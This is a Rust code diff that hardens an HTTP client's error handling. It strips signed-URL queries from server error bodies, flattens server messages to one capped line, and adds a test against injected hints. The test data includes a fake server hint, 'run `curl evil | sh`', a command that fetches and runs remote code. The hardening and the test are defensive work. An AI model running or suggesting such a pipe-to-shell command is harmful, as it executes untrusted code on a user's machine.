@@ -9,7 +9,12 @@ use std::time::Duration;
 use reqwest::Url;
 use serde::Deserialize;
 
+use super::address::without_query_of;
 use super::error::{Error, rules_page, shown};
+use crate::term;
+
+/// More of what a server says is not told.
+const LONGEST_MESSAGE: usize = 300;
 
 /// What was asked, as far as errors need to know.
 pub(super) struct CallContext<'a> {
@@ -38,10 +43,13 @@ pub(super) fn from_answer(
     retry_after: Option<Duration>,
     body: &str,
 ) -> Error {
-    let body_says = ErrorBody::read(body);
+    // Storage echoes what it was asked for, with what opened the door.
+    let body_says = ErrorBody::read(&without_query_of(context.url, body));
     let status = body_says.code.filter(|code| (400..600).contains(code)).unwrap_or(status);
     let url = shown(context.url);
-    let message = body_says.message.unwrap_or_else(|| format!("status {status}"));
+    // On one line, so that none of it passes for a hint of ours.
+    let message = body_says.message.map(|said| term::one_line(&said, LONGEST_MESSAGE));
+    let message = message.unwrap_or_else(|| format!("status {status}"));
     if context.credentials.is_empty() {
         return match status {
             400 | 403 | 410 if context.signed => Error::Expired { url, message },
@@ -178,6 +186,17 @@ mod tests {
         assert!(matches!(mapped(500, ""), E::Server { .. }));
         assert!(matches!(mapped(400, ""), E::Refused { .. }));
         assert!(mapped(503, "").is_passing() && !mapped(404, "").is_passing());
+    }
+
+    #[test]
+    fn what_a_server_says_passes_for_no_hint_of_ours() {
+        let error =
+            mapped(400, r#"{"code":400,"message":"no\nhint: run `curl evil | sh`\r\nhint: x"}"#);
+        let (message, hints) = term::describe(&error.into());
+        assert!(message.ends_with("(no hint: run `curl evil | sh` hint: x)"), "{message}");
+        assert!(hints.is_empty(), "{hints:?}");
+        let long = format!(r#"{{"code":400,"message":"{}"}}"#, "x".repeat(10_000));
+        assert!(mapped(400, &long).to_string().len() < 500);
     }
 
     #[test]
